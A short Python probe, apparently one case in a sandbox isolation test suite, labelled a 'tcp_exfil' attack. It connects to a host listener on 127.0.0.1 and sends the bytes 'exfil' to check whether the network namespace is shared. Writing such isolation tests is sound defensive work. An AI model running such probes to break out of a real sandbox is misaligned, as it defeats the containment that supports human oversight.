# attack: tcp_loopback
# category: tcp_exfil
# kind: network
# describe: the host's listener through 127.0.0.1 (works only if the network namespace is shared)
import json
T = json.load(open("target.json"))

import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(1)
try:
    s.connect(("127.0.0.1", T["tcp_port"]))
    s.send(b"exfil")
except OSError as e:
    print(e)
